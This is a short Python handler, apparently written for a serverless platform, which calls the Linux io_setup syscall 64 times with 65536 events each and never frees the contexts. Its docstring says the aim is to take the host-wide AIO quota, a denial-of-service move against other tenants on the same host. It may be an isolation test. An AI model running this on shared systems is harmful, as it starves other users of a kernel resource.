"""Take the host-wide AIO quota with io_setup(2) (x86_64 nr 206)."""
import ctypes


def handler(event, context):
    libc = ctypes.CDLL(None, use_errno=True)
    ctx = ctypes.c_ulong(0)
    res = [libc.syscall(206, 65536, ctypes.byref(ctx)) for _ in range(64)]
    return {"io_setup": res}
